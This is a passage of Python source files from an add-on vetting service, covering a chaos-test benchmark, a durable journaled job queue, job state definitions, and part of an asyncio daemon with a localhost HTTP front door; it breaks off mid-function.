        handle, chains, submitters, wait_timeout, errors
    )
    wall_s = time.monotonic() - started
    done.set()
    if chaos is not None:
        chaos.join(timeout=10.0)

    outcomes: dict[str, dict] = {}
    states: dict[str, str] = {}
    client = handle.client
    for chain in chains:
        for job_id in chain.job_ids():
            try:
                states[job_id] = client.status(job_id)["state"]
            except Exception as exc:
                states[job_id] = f"unknown ({type(exc).__name__})"
                continue
            if states[job_id] == "done":
                outcomes[job_id] = client.result(job_id)["outcome"]
    final_stats = client.stats() if client.alive() else {}
    handle.stop()

    from repro.diffvet.store import VersionStore

    version_chains = {
        chain.name: [
            record.source_sha
            for record in VersionStore(directory).chain(chain.name)
        ]
        for chain in chains
    }
    state_counts: dict[str, int] = {}
    for state in states.values():
        state_counts[state] = state_counts.get(state, 0) + 1
    return {
        "jobs": total_jobs,
        "wall_s": round(wall_s, 3),
        "latency": _percentiles([r.latency_s for r in results]),
        "states": dict(sorted(state_counts.items())),
        "submit_errors": errors,
        "chaos": {
            "worker_kills": log.worker_kills,
            "daemon_restarts": log.daemon_restarts,
            "missed": log.missed,
        },
        "pool_rebuilds": (
            final_stats.get("pool", {}).get("rebuilds") if final_stats else None
        ),
        "_states": states,
        "_outcomes": outcomes,
        "_version_chains": version_chains,
    }


# ----------------------------------------------------------------------
# The benchmark: control run vs chaos run


def _check_runs(chains: list[Chain], control: dict, chaos: dict) -> dict:
    """The three invariants, as counted violations (0 = pass)."""
    lost = []
    duplicates = []
    mismatches = []
    for chain in chains:
        for job_id in chain.job_ids():
            state = chaos["_states"].get(job_id)
            if state not in ("done", "failed", "cancelled", "poisoned"):
                lost.append({"job_id": job_id, "name": chain.name,
                             "state": state})
        expected = len(set(chain.sources))
        recorded = chaos["_version_chains"].get(chain.name, [])
        if len(recorded) != expected or len(set(recorded)) != len(recorded):
            duplicates.append({
                "name": chain.name,
                "expected_versions": expected,
                "recorded": recorded,
            })
        for job_id in chain.job_ids():
            ours = chaos["_outcomes"].get(job_id)
            theirs = control["_outcomes"].get(job_id)
            if ours is None and theirs is None:
                continue
            if ours is None or theirs is None:
                mismatches.append({
                    "job_id": job_id, "name": chain.name,
                    "detail": "done in one run only",
                })
            elif stable_verdict(ours) != stable_verdict(theirs):
                mismatches.append({
                    "job_id": job_id, "name": chain.name,
                    "chaos": stable_verdict(ours),
                    "control": stable_verdict(theirs),
                })
    return {
        "lost_jobs": lost,
        "duplicate_side_effects": duplicates,
        "verdict_mismatches": mismatches,
        "ok": not (lost or duplicates or mismatches),
    }


def run_bench(
    output: str | os.PathLike | None = None,
    *,
    jobs: int = 50,
    workers: int = 2,
    submitters: int = 4,
    worker_kills: int = 2,
    daemon_kills: int = 1,
    seed: int = 0,
    fsync: bool = True,
    wait_timeout: float = 300.0,
    state_dir: str | os.PathLike | None = None,
) -> dict:
    """The full chaos benchmark: control run, chaos run, invariant
    checks, report. ``state_dir`` keeps the two daemon directories for
    inspection (a temp directory otherwise)."""
    import tempfile

    from repro.store import atomic_write_json

    chains = build_workload(jobs, seed=seed)
    # Sized so a job hit by every chaos event still cannot be poisoned:
    # the exactly-once check must be deterministic, not probabilistic.
    max_attempts = worker_kills + daemon_kills + 2

    def both(base: Path) -> dict:
        control = run_once(
            base / "control", chains,
            workers=workers, submitters=submitters,
            max_attempts=max_attempts, fsync=fsync,
            wait_timeout=wait_timeout,
        )
        chaos = run_once(
            base / "chaos", chains,
            workers=workers, submitters=submitters,
            max_attempts=max_attempts, fsync=fsync,
            worker_kills=worker_kills, daemon_kills=daemon_kills,
            wait_timeout=wait_timeout,
        )
        return {"control": control, "chaos": chaos}

    if state_dir is not None:
        runs = both(Path(state_dir))
    else:
        with tempfile.TemporaryDirectory(prefix="addon-sig-service-") as tmp:
            runs = both(Path(tmp))

    checks = _check_runs(chains, runs["control"], runs["chaos"])
    report = {
        "schema": "addon-sig/bench-service/v1",
        "config": {
            "jobs": jobs,
            "chains": len(chains),
            "workers": workers,
            "submitters": submitters,
            "worker_kills": worker_kills,
            "daemon_kills": daemon_kills,
            "max_attempts": max_attempts,
            "seed": seed,
            "fsync": fsync,
        },
        "control": {
            k: v for k, v in runs["control"].items()
            if not k.startswith("_")
        },
        "chaos": {
            k: v for k, v in runs["chaos"].items() if not k.startswith("_")
        },
        "checks": {
            "lost_jobs": len(checks["lost_jobs"]),
            "duplicate_side_effects": len(checks["duplicate_side_effects"]),
            "verdict_mismatches": len(checks["verdict_mismatches"]),
            "ok": checks["ok"],
            "detail": {
                k: v for k, v in checks.items() if k != "ok" and v
            } or None,
        },
    }
    if output is not None:
        atomic_write_json(Path(output), report)
    return report


def render_report(report: dict) -> str:
    lines = []
    config = report["config"]
    lines.append(
        f"service chaos bench: {config['jobs']} jobs "
        f"({config['chains']} addons), {config['workers']} workers, "
        f"{config['submitters']} submitters"
    )
    for label in ("control", "chaos"):
        run = report[label]
        latency = run["latency"]
        lines.append(
            f"  {label:>7}: wall {run['wall_s']:.1f}s  "
            f"p50 {latency['p50_ms']}ms  p95 {latency['p95_ms']}ms  "
            f"p99 {latency['p99_ms']}ms  states {run['states']}"
        )
    chaos = report["chaos"]["chaos"]
    restarts = chaos["daemon_restarts"]
    lines.append(
        f"  injected: {len(chaos['worker_kills'])} worker kill(s), "
        f"{len(restarts)} daemon restart(s)"
        + (
            "  recovery "
            + ", ".join(f"{r['downtime_s']:.2f}s" for r in restarts)
            if restarts else ""
        )
    )
    checks = report["checks"]
    lines.append(
        f"  checks: lost={checks['lost_jobs']} "
        f"duplicates={checks['duplicate_side_effects']} "
        f"mismatches={checks['verdict_mismatches']} "
        f"→ {'OK' if checks['ok'] else 'FAIL'}"
    )
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    import argparse

    parser = argparse.ArgumentParser(
        prog="addon-sig service-bench",
        description="chaos-test the vetting daemon end to end",
    )
    parser.add_argument("--jobs", type=int, default=50)
    parser.add_argument("--workers", type=int, default=2)
    parser.add_argument("--submitters", type=int, default=4)
    parser.add_argument("--worker-kills", type=int, default=2)
    parser.add_argument("--daemon-kills", type=int, default=1)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument(
        "--no-fsync", action="store_true",
        help="run both daemons without fsync (faster; tests only)",
    )
    parser.add_argument(
        "--state-dir", default=None,
        help="keep the daemon state directories here for inspection",
    )
    parser.add_argument("--output", default="BENCH_service.json")
    arguments = parser.parse_args(argv)
    report = run_bench(
        arguments.output,
        jobs=arguments.jobs,
        workers=arguments.workers,
        submitters=arguments.submitters,
        worker_kills=arguments.worker_kills,
        daemon_kills=arguments.daemon_kills,
        seed=arguments.seed,
        fsync=not arguments.no_fsync,
        state_dir=arguments.state_dir,
    )
    print(render_report(report))
    print(f"wrote {arguments.output}")
    return 0 if report["checks"]["ok"] else 1


if __name__ == "__main__":
    sys.exit(main())
