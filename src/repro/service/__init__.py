"""The vetting service: a crash-safe, long-running vetting daemon.

Everything below this package exists so a store-scale deployment can
treat vetting as *infrastructure*: submissions survive the daemon being
killed, worker death is retried with backoff instead of wedging the
queue, and verdicts are committed exactly once no matter how many times
the machinery around them crashes.

- :mod:`repro.service.jobs` — the job vocabulary: :class:`Job`,
  :class:`JobState`, and the submission payload;
- :mod:`repro.service.queue` — :class:`DurableJobQueue`: every state
  change journaled to per-shard :class:`repro.store.Journal` files
  (atomic append + replay-on-restart), results committed to a fsync'd
  :class:`repro.store.JsonStore` *before* the terminal journal record,
  so execution is at-least-once but result commit is idempotent —
  a replayed job that already committed is recognized, not re-run;
- :mod:`repro.service.supervisor` — :class:`SupervisedPool`: the
  process pool the daemon vets on, rebuilt on worker death, with
  per-job hard deadlines layered over the cooperative
  :class:`repro.faults.Budget`;
- :mod:`repro.service.daemon` — :class:`VettingService` plus its two
  front doors (``addon-sig serve``): newline-delimited JSON-RPC on
  stdin/stdout, or a localhost HTTP listener (stdlib-only, asyncio);
- :mod:`repro.service.client` — the blocking HTTP client the load
  generator and tests drive the daemon with;
- :mod:`repro.service.loadgen` — the service-level chaos harness
  (``addon-sig service-bench``): concurrent submitters, injected worker
  kills and a daemon SIGKILL+restart, asserting zero lost jobs, no
  duplicate side effects, and byte-identical verdicts versus a
  fault-free control run; writes ``BENCH_service.json``.
"""

from repro.service.jobs import Job, JobState
from repro.service.queue import DurableJobQueue

__all__ = ["DurableJobQueue", "Job", "JobState"]
