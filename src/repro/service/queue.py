"""The durable job queue: journaled state, replay-on-restart.

Design, in one paragraph: every job state change is **journaled before
it is acted on** (atomic append to a per-shard
:class:`repro.store.Journal`, fsync'd by default), and results are
**committed before they are acknowledged** (atomic fsync'd write into a
:class:`repro.store.JsonStore` *before* the terminal ``done`` record).
A killed daemon therefore restarts by replaying the journals: submitted
jobs are never lost, jobs that were mid-run are re-queued (execution is
at-least-once), and a job whose result had already been committed is
recognized as ``DONE`` instead of re-run — so the *verdict* is
committed exactly once even though the *work* may run twice.

Poison-job quarantine closes the loop on pathological submissions: the
``start`` record is journaled before each attempt, so attempts survive
restarts, and a job that keeps crashing the machinery (worker death,
daemon death mid-run) exhausts its attempt budget and is parked in
state ``POISONED`` with :data:`repro.faults.FailureKind.POISON` rather
than wedging the queue forever — exactly the service-level analogue of
the batch engine's capped pool retries.

The queue is synchronous and thread-safe (one lock); the asyncio daemon
drives it from the event loop and wakes its scheduler on submits.
"""

from __future__ import annotations

import os
import threading
import zlib
from pathlib import Path

from repro.batch import VetTask
from repro.faults import FailureKind, RetryPolicy
from repro.service.jobs import (
    Job,
    JobState,
    derive_job_id,
    task_from_json,
    task_to_json,
)
from repro.store import Journal, JsonStore


class DurableJobQueue:
    """A crash-safe work queue for vetting jobs.

    ``directory`` holds everything: ``journal/shard-NN.log`` (the
    per-shard state journals) and ``results/`` (the committed-outcome
    store). ``max_attempts`` is the poison threshold — how many times a
    job may *start* before it is quarantined. ``fsync=False`` is for
    tests only.
    """

    def __init__(
        self,
        directory: str | os.PathLike,
        *,
        shards: int = 4,
        max_attempts: int | None = None,
        fsync: bool = True,
    ) -> None:
        self.directory = Path(directory)
        self.shards = max(1, shards)
        self.max_attempts = (
            max_attempts if max_attempts is not None
            else RetryPolicy().max_attempts
        )
        self._journals = [
            Journal(
                self.directory / "journal" / f"shard-{index:02d}.log",
                fsync=fsync,
            )
            for index in range(self.shards)
        ]
        self.results = JsonStore(
            self.directory / "results",
            shards=16,
            fsync=fsync,
            touch_on_get=False,
        )
        self._lock = threading.Lock()
        self._jobs: dict[str, Job] = {}
        self._pending: list[str] = []  # job ids, submission order
        self._seq = 0
        self.recovery = self._replay()

    # -- journal plumbing ----------------------------------------------

    def _journal_for(self, job_id: str) -> Journal:
        shard = zlib.crc32(job_id.encode("utf-8")) % self.shards
        return self._journals[shard]

    def _log(self, record: dict) -> None:
        self._journal_for(record["job_id"]).append(record)

    def close(self) -> None:
        for journal in self._journals:
            journal.close()

    # -- recovery ------------------------------------------------------

    def _replay(self) -> dict:
        """Rebuild the job table from the journals (torn tails repaired,
        corrupt records skipped), then resolve every non-terminal job:
        committed result → ``DONE``; attempt budget spent → poison;
        otherwise back onto the pending queue. Returns the recovery
        summary the daemon surfaces in its stats."""
        corrupt = 0
        repaired = 0
        records: list[dict] = []
        for journal in self._journals:
            if journal.repair():
                repaired += 1
            replay = journal.replay()
            corrupt += replay.corrupt
            records.extend(replay.records)
        # Per-job records live in one shard, so they arrive in append
        # order; only submissions need the cross-shard sort.
        for record in records:
            self._apply(record)
        requeued = 0
        healed = 0
        poisoned = 0
        for job in self._jobs.values():
            self._seq = max(self._seq, job.seq)
            if job.terminal:
                continue
            if self.results.get(job.id) is not None:
                # Crashed between result commit and the ``done`` record:
                # the verdict exists — heal the journal, never re-run.
                job.state = JobState.DONE
                self._log({"event": "done", "job_id": job.id})
                healed += 1
            elif job.attempts >= self.max_attempts:
                self._poison_locked(
                    job, "crashed the service on every allowed attempt"
                )
                poisoned += 1
            else:
                job.state = JobState.QUEUED
                requeued += 1
        self._pending = [
            job.id
            for job in sorted(self._jobs.values(), key=lambda j: j.seq)
            if job.state is JobState.QUEUED
        ]
        return {
            "jobs_replayed": len(self._jobs),
            "requeued": requeued,
            "healed_commits": healed,
            "poisoned": poisoned,
            "corrupt_records": corrupt,
            "repaired_journals": repaired,
        }

    def _apply(self, record: dict) -> None:
        event = record.get("event")
        job_id = record.get("job_id")
        if not isinstance(job_id, str):
            return
        if event == "submit":
            if job_id not in self._jobs:
                try:
                    task = task_from_json(record["task"])
                except Exception:
                    return  # unreadable task: treat as corrupt record
                self._jobs[job_id] = Job(
                    id=job_id, task=task, seq=int(record.get("seq", 0))
                )
            return
        job = self._jobs.get(job_id)
        if job is None:
            return
        if event == "start":
            job.attempts = max(job.attempts, int(record.get("attempt", 0)))
            job.state = JobState.RUNNING
        elif event == "done":
            job.state = JobState.DONE
        elif event == "failed":
            job.state = JobState.FAILED
            job.failure = record.get("failure")
            job.error = record.get("error")
        elif event == "cancelled":
            job.state = JobState.CANCELLED
        elif event == "poisoned":
            job.state = JobState.POISONED
            job.failure = FailureKind.POISON.value
            job.error = record.get("error")

    # -- submission and claiming ---------------------------------------

    def submit(self, task: VetTask, job_id: str | None = None) -> Job:
        """Durably enqueue one job. Idempotent on ``job_id``: a client
        re-submitting after a lost connection or daemon restart gets
        the existing job back, in whatever state it reached."""
        with self._lock:
            if job_id is None:
                job_id = derive_job_id(task.name, task.source)
            existing = self._jobs.get(job_id)
            if existing is not None:
                return existing
            self._seq += 1
            job = Job(id=job_id, task=task, seq=self._seq)
            # Journal-then-ack: once submit() returns, replay finds it.
            self._log({
                "event": "submit",
                "job_id": job_id,
                "seq": job.seq,
                "task": task_to_json(task),
            })
            self._jobs[job_id] = job
            self._pending.append(job_id)
            return job

    def claim(self) -> Job | None:
        """Take the oldest queued job and mark it running. The attempt
        is journaled *before* the caller runs anything, so a crash
        mid-run still counts it on replay (poison accounting)."""
        with self._lock:
            while self._pending:
                job = self._jobs[self._pending.pop(0)]
                if job.state is not JobState.QUEUED:
                    continue  # cancelled while queued
                job.attempts += 1
                job.state = JobState.RUNNING
                self._log({
                    "event": "start",
                    "job_id": job.id,
                    "attempt": job.attempts,
                })
                return job
            return None

    # -- terminal transitions ------------------------------------------

    def commit_result(self, job_id: str, outcome: dict) -> bool:
        """Commit a job's vetted outcome: result first (atomic,
        fsync'd), ``done`` record second. Idempotent — a job that
        already committed keeps its first verdict and this returns
        ``False`` (the no-duplicate-side-effects guarantee)."""
        with self._lock:
            job = self._jobs.get(job_id)
            if job is None or job.terminal:
                return False
            if self.results.get(job_id) is None:
                self.results.put(job_id, outcome)
            job.state = JobState.DONE
            self._log({"event": "done", "job_id": job_id})
            return True

    def fail(self, job_id: str, failure: FailureKind, error: str = "") -> None:
        """Terminally fail a job with a typed infrastructure failure."""
        with self._lock:
            job = self._jobs.get(job_id)
            if job is None or job.terminal:
                return
            job.state = JobState.FAILED
            job.failure = failure.value
            job.error = error
            self._log({
                "event": "failed",
                "job_id": job_id,
                "failure": failure.value,
                "error": error,
            })

    def crashed(self, job_id: str, error: str = "") -> JobState:
        """A worker died under this job: requeue it while attempts
        remain, quarantine it as poison once they are spent. Returns
        the resulting state."""
        with self._lock:
            job = self._jobs.get(job_id)
            if job is None or job.terminal:
                return JobState.FAILED if job is None else job.state
            job.history.append(error or "worker crash")
            if job.attempts >= self.max_attempts:
                self._poison_locked(job, error)
                return job.state
            job.state = JobState.QUEUED
            self._pending.append(job.id)
            return job.state

    def _poison_locked(self, job: Job, error: str) -> None:
        job.state = JobState.POISONED
        job.failure = FailureKind.POISON.value
        job.error = (
            f"quarantined after {job.attempts} crashed attempts"
            + (f": {error}" if error else "")
        )
        self._log({
            "event": "poisoned",
            "job_id": job.id,
            "error": job.error,
        })

    def cancel(self, job_id: str) -> bool:
        """Cancel a job that has not started; running or finished jobs
        are not cancellable (their attempt may already have effects)."""
        with self._lock:
            job = self._jobs.get(job_id)
            if job is None or job.state is not JobState.QUEUED:
                return False
            job.state = JobState.CANCELLED
            self._log({"event": "cancelled", "job_id": job_id})
            return True

    # -- maintenance ---------------------------------------------------

    def compact(self) -> None:
        """Fold each shard journal down to the records that reproduce
        the current state (one submit, the attempt high-water mark, and
        the terminal event per job). Run on graceful shutdown so
        journals do not grow with history forever."""
        with self._lock:
            per_shard: dict[int, list[dict]] = {
                index: [] for index in range(self.shards)
            }
            for job in sorted(self._jobs.values(), key=lambda j: j.seq):
                shard = zlib.crc32(job.id.encode("utf-8")) % self.shards
                records = per_shard[shard]
                records.append({
                    "event": "submit",
                    "job_id": job.id,
                    "seq": job.seq,
                    "task": task_to_json(job.task),
                })
                if job.attempts:
                    records.append({
                        "event": "start",
                        "job_id": job.id,
                        "attempt": job.attempts,
                    })
                if job.state is JobState.DONE:
                    records.append({"event": "done", "job_id": job.id})
                elif job.state is JobState.FAILED:
                    records.append({
                        "event": "failed",
                        "job_id": job.id,
                        "failure": job.failure,
                        "error": job.error,
                    })
                elif job.state is JobState.CANCELLED:
                    records.append({"event": "cancelled", "job_id": job.id})
                elif job.state is JobState.POISONED:
                    records.append({
                        "event": "poisoned",
                        "job_id": job.id,
                        "error": job.error,
                    })
            for index, journal in enumerate(self._journals):
                journal.compact(per_shard[index])

    # -- reads ---------------------------------------------------------

    def get(self, job_id: str) -> Job | None:
        with self._lock:
            return self._jobs.get(job_id)

    def result(self, job_id: str) -> dict | None:
        """The committed outcome of a ``DONE`` job (``None`` until the
        commit happened)."""
        return self.results.get(job_id)

    def jobs(self) -> list[Job]:
        with self._lock:
            return sorted(self._jobs.values(), key=lambda job: job.seq)

    def depth(self) -> int:
        with self._lock:
            return sum(
                1
                for job in self._jobs.values()
                if job.state is JobState.QUEUED
            )

    def stats(self) -> dict:
        with self._lock:
            states: dict[str, int] = {}
            for job in self._jobs.values():
                states[job.state.value] = states.get(job.state.value, 0) + 1
            return {
                "jobs": len(self._jobs),
                "states": dict(sorted(states.items())),
                "max_attempts": self.max_attempts,
                "recovery": self.recovery,
            }
