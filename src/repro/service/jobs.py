"""The job vocabulary of the vetting service.

A *job* is one requested vet: a :class:`~repro.batch.VetTask` plus the
queue bookkeeping that makes it survive crashes — a stable id, a state,
and an attempt count. Job states form the lifecycle::

    QUEUED ──claim──▶ RUNNING ──commit──▶ DONE
      │                  │ worker crash / daemon death
      │                  ├─ attempts left ──▶ QUEUED   (requeue)
      │                  └─ attempts spent ─▶ POISONED (quarantine)
      │                  └─ hard deadline ──▶ FAILED
      └──cancel──▶ CANCELLED

``DONE`` means the *outcome was committed* — the outcome itself may
record a vetting failure (parse error, budget trip); that is a vetted
result, not a job failure. ``FAILED``/``POISONED`` are infrastructure
verdicts: the service could not produce an outcome for this job, and
says so with a typed :class:`repro.faults.FailureKind`.
"""

from __future__ import annotations

import dataclasses
import enum
import hashlib
from dataclasses import dataclass, field

from repro.batch import VetTask


class JobState(str, enum.Enum):
    """Where a job is in its lifecycle (values are the wire strings)."""

    QUEUED = "queued"
    RUNNING = "running"
    DONE = "done"
    FAILED = "failed"
    CANCELLED = "cancelled"
    POISONED = "poisoned"

    def __str__(self) -> str:
        return self.value


#: States from which a job never moves again.
TERMINAL_STATES = frozenset(
    {JobState.DONE, JobState.FAILED, JobState.CANCELLED, JobState.POISONED}
)


def task_to_json(task: VetTask) -> dict:
    return dataclasses.asdict(task)


def task_from_json(data: dict) -> VetTask:
    known = {f.name for f in dataclasses.fields(VetTask)}
    return VetTask(**{k: v for k, v in data.items() if k in known})


def derive_job_id(name: str, source: str, nonce: str = "") -> str:
    """A deterministic job id from the submission itself, so a client
    that re-submits after a connection loss (or a daemon restart) names
    the *same* job and cannot create a duplicate."""
    digest = hashlib.sha256(
        f"{name}\x00{source}\x00{nonce}".encode()
    ).hexdigest()
    return f"job-{digest[:20]}"


@dataclass
class Job:
    """One queued vet and its crash-surviving bookkeeping."""

    id: str
    task: VetTask
    state: JobState = JobState.QUEUED
    #: How many times execution *started* (journaled before the run, so
    #: a crash mid-run still counts the attempt on replay).
    attempts: int = 0
    #: Monotonic submission sequence (orders the pending queue).
    seq: int = 0
    #: Typed infrastructure failure (a :class:`FailureKind` value) for
    #: ``FAILED``/``POISONED`` jobs; human detail in ``error``.
    failure: str | None = None
    error: str | None = None
    #: Crash-attribution breadcrumbs (diagnostic only).
    history: list[str] = field(default_factory=list)

    @property
    def terminal(self) -> bool:
        return self.state in TERMINAL_STATES

    def status_json(self) -> dict:
        """The wire shape of ``status`` responses (no source bytes —
        status polls must stay cheap)."""
        return {
            "id": self.id,
            "name": self.task.name,
            "state": self.state.value,
            "attempts": self.attempts,
            "terminal": self.terminal,
            "failure": self.failure,
            "error": self.error,
        }
