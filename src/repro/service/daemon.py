"""``addon-sig serve``: the long-running vetting daemon.

The :class:`VettingService` glues the crash-safe layers together:

- submissions go through the :class:`~repro.service.queue
  .DurableJobQueue` (journal-then-ack, so an acknowledged submit
  survives any later crash);
- an asyncio scheduler feeds claimed jobs to the
  :class:`~repro.service.supervisor.SupervisedPool`, at most one job
  per worker slot;
- a worker crash backs off under the shared
  :class:`~repro.faults.RetryPolicy` and requeues the job (or
  quarantines it as poison once its attempts are spent); a job that
  outlives its hard deadline fails with ``budget-time``;
- committed clean outcomes extend the service's
  :class:`~repro.diffvet.store.VersionStore` chains (exactly once per
  distinct source, replayed idempotently after a crash), and queued
  updates without an explicit baseline resolve one from those chains —
  the marketplace hot path, where most traffic is updates;
- two front doors expose submit/status/result/cancel/stats/shutdown:
  newline-delimited JSON-RPC on stdin/stdout, and a localhost HTTP
  listener built directly on asyncio streams (stdlib only).

Run ``python -m repro.service.daemon --dir DIR --http 0`` (or via the
CLI: ``addon-sig serve``). The daemon prints one ``listening on``
line and also publishes ``<dir>/daemon.json`` (pid + port, atomically)
so load generators can discover it.
"""

from __future__ import annotations

import argparse
import asyncio
import dataclasses
import hashlib
import json
import os
import random
import signal
import sys
import time
from pathlib import Path

from repro.batch import VetOutcome, VetTask
from repro.diffvet.store import VersionStore
from repro.faults import FailureKind, RetryPolicy
from repro.service.jobs import Job, JobState, task_from_json
from repro.service.queue import DurableJobQueue
from repro.service.supervisor import (
    JobDeadlineError,
    SupervisedPool,
    WorkerCrashError,
)


class RpcError(Exception):
    """A structured front-door error (HTTP status + machine code)."""

    def __init__(self, status: int, code: str, detail: str = "") -> None:
        super().__init__(detail or code)
        self.status = status
        self.code = code
        self.detail = detail

    def to_json(self) -> dict:
        return {"error": self.code, "detail": self.detail}


def _source_sha(source: str) -> str:
    return hashlib.sha256(source.encode("utf-8")).hexdigest()


class VettingService:
    """The daemon's core: durable queue + supervised pool + stores."""

    def __init__(
        self,
        directory: str | os.PathLike,
        *,
        workers: int = 2,
        spec=None,
        timeout: float | None = None,
        retry: RetryPolicy | None = None,
        fsync: bool = True,
        max_chains: int | None = None,
    ) -> None:
        self.directory = Path(directory)
        self.retry = retry if retry is not None else RetryPolicy()
        self.queue = DurableJobQueue(
            self.directory, max_attempts=self.retry.max_attempts, fsync=fsync
        )
        self.pool = SupervisedPool(workers, spec=spec, timeout=timeout)
        self.versions = VersionStore(self.directory, max_chains=max_chains)
        self._rng = random.Random(0xC0FFEE)
        self._running = False
        self._scheduler_task: asyncio.Task | None = None
        self._job_tasks: set[asyncio.Task] = set()
        self._wake = asyncio.Event()
        self._stopped = asyncio.Event()
        self._slots = asyncio.Semaphore(self.pool.workers)
        self.started_at = time.monotonic()
        # Crash healing: a DONE job whose version record was lost in
        # the commit→record window is re-recorded (idempotently) here.
        for job in self.queue.jobs():
            if job.state is JobState.DONE:
                outcome_data = self.queue.result(job.id)
                if outcome_data is not None:
                    self._record_version(
                        job.task, VetOutcome.from_json(outcome_data)
                    )

    # -- scheduling ----------------------------------------------------

    async def start(self) -> None:
        self._running = True
        self._scheduler_task = asyncio.create_task(self._scheduler())

    async def stop(self, *, grace: float = 10.0) -> None:
        """Graceful stop: no new claims, brief wait for in-flight jobs
        (abandoned ones are requeued by the next start's replay), then
        journal compaction."""
        self._running = False
        self._wake.set()
        if self._scheduler_task is not None:
            self._scheduler_task.cancel()
            try:
                await self._scheduler_task
            except asyncio.CancelledError:
                pass
        if self._job_tasks:
            await asyncio.wait(self._job_tasks, timeout=grace)
        for task in self._job_tasks:
            task.cancel()
        self.pool.shutdown()
        self.queue.compact()
        self.queue.close()
        self._stopped.set()

    async def wait_stopped(self) -> None:
        await self._stopped.wait()

    async def _scheduler(self) -> None:
        while self._running:
            await self._slots.acquire()
            if not self._running:
                self._slots.release()
                return
            # Clear before claiming: a submit that lands after the clear
            # sets the event, so a failed claim cannot sleep through it.
            self._wake.clear()
            job = self.queue.claim()
            if job is None:
                self._slots.release()
                await self._wake.wait()
                continue
            task = asyncio.create_task(self._run_job(job))
            self._job_tasks.add(task)
            task.add_done_callback(self._job_tasks.discard)

    def _resolve_baseline(self, task: VetTask) -> VetTask:
        """The service shape of differential vetting: an update with no
        explicit baseline diffs against the addon's recorded head
        version (unless this exact source *is* the head — a
        resubmission)."""
        if task.baseline_source is not None:
            return task
        head = self.versions.baseline(task.name)
        if head is None or head.source_sha == _source_sha(task.source):
            return task
        return dataclasses.replace(
            task,
            baseline_source=head.source,
            baseline_signature_text=head.signature_text,
        )

    async def _run_job(self, job: Job) -> None:
        try:
            try:
                outcome = await self.pool.run(self._resolve_baseline(job.task))
            except WorkerCrashError as exc:
                # Back off (shared capped-exponential policy) *before*
                # requeueing — once the job is back in the pending queue
                # the scheduler may claim it immediately. A daemon death
                # during the sleep replays the job as mid-run, which the
                # restart requeues anyway.
                if self.queue.max_attempts > job.attempts:
                    await asyncio.sleep(
                        self.retry.delay(job.attempts, self._rng)
                    )
                self.queue.crashed(job.id, str(exc))
                return
            except JobDeadlineError as exc:
                self.queue.fail(job.id, FailureKind.BUDGET_TIME, str(exc))
                return
            committed = self.queue.commit_result(job.id, outcome.to_json())
            if committed:
                self._record_version(job.task, outcome)
        except Exception as exc:  # supervisor bug: fail, never wedge
            self.queue.fail(
                job.id, FailureKind.INTERNAL, f"{type(exc).__name__}: {exc}"
            )
        finally:
            self._slots.release()
            self._wake.set()

    def _record_version(self, task: VetTask, outcome: VetOutcome) -> None:
        """Advance the addon's version chain — exactly once per distinct
        source, so the crash-recovery replay (which re-walks every DONE
        job) cannot manufacture duplicate links."""
        if not outcome.ok or outcome.degraded:
            return
        sha = _source_sha(task.source)
        if any(
            link.source_sha == sha for link in self.versions.chain(task.name)
        ):
            return
        self.versions.record(
            task.name,
            task.source,
            outcome.signature_text,
            verdict=outcome.verdict,
            diff_verdict=outcome.diff_verdict,
        )

    # -- the RPC surface (shared by both front doors) ------------------

    async def rpc(self, method: str, params: dict) -> dict:
        if method == "submit":
            return self._rpc_submit(params)
        if method == "status":
            return self._require_job(params).status_json()
        if method == "result":
            job = self._require_job(params)
            outcome = self.queue.result(job.id)
            if outcome is None:
                raise RpcError(
                    409, "not-done",
                    f"job {job.id} is {job.state}; no committed result",
                )
            return {"id": job.id, "outcome": outcome}
        if method == "cancel":
            job = self._require_job(params)
            return {"id": job.id, "cancelled": self.queue.cancel(job.id)}
        if method == "stats":
            return self.stats()
        if method == "shutdown":
            asyncio.get_running_loop().call_soon(
                lambda: asyncio.ensure_future(self.stop())
            )
            return {"stopping": True}
        raise RpcError(404, "unknown-method", method)

    def _rpc_submit(self, params: dict) -> dict:
        data = params.get("task")
        if not isinstance(data, dict) or "source" not in data:
            raise RpcError(400, "bad-task", "params.task.source is required")
        data.setdefault("name", "addon")
        try:
            task = task_from_json(data)
        except Exception as exc:
            raise RpcError(400, "bad-task", str(exc)) from exc
        job_id = params.get("job_id")
        if job_id is not None and not isinstance(job_id, str):
            raise RpcError(400, "bad-job-id", "job_id must be a string")
        job = self.queue.submit(task, job_id=job_id)
        self._wake.set()
        return job.status_json()

    def _require_job(self, params: dict) -> Job:
        job_id = params.get("job_id")
        job = self.queue.get(job_id) if isinstance(job_id, str) else None
        if job is None:
            raise RpcError(404, "unknown-job", str(job_id))
        return job

    def stats(self) -> dict:
        return {
            "uptime_s": round(time.monotonic() - self.started_at, 3),
            "pid": os.getpid(),
            "queue": self.queue.stats(),
            "pool": self.pool.stats(),
            "retry": {
                "max_attempts": self.retry.max_attempts,
                "base_delay_s": self.retry.base_delay,
                "max_delay_s": self.retry.max_delay,
            },
        }


# ----------------------------------------------------------------------
# Front door: localhost HTTP over asyncio streams


_HTTP_REASONS = {200: "OK", 400: "Bad Request", 404: "Not Found",
                 409: "Conflict", 500: "Internal Server Error"}

#: path prefix → RPC method for the GET/POST convenience routes.
_HTTP_ROUTES = {
    ("POST", "submit"): "submit",
    ("GET", "status"): "status",
    ("GET", "result"): "result",
    ("POST", "cancel"): "cancel",
    ("GET", "stats"): "stats",
    ("POST", "shutdown"): "shutdown",
}


class HttpFrontDoor:
    """A minimal, dependency-free HTTP/1.1 JSON front door."""

    def __init__(self, service: VettingService, host: str = "127.0.0.1",
                 port: int = 0) -> None:
        self.service = service
        self.host = host
        self.port = port
        self._server: asyncio.AbstractServer | None = None

    async def start(self) -> int:
        self._server = await asyncio.start_server(
            self._handle, self.host, self.port
        )
        self.port = self._server.sockets[0].getsockname()[1]
        return self.port

    async def close(self) -> None:
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()

    async def _handle(self, reader: asyncio.StreamReader,
                      writer: asyncio.StreamWriter) -> None:
        try:
            status, payload = await self._respond(reader)
        except Exception as exc:  # a broken request must not kill the loop
            status, payload = 500, {"error": "internal", "detail": str(exc)}
        try:
            body = json.dumps(payload).encode("utf-8")
            reason = _HTTP_REASONS.get(status, "OK")
            head = (
                f"HTTP/1.1 {status} {reason}\r\n"
                f"Content-Type: application/json\r\n"
                f"Content-Length: {len(body)}\r\n"
                f"Connection: close\r\n\r\n"
            )
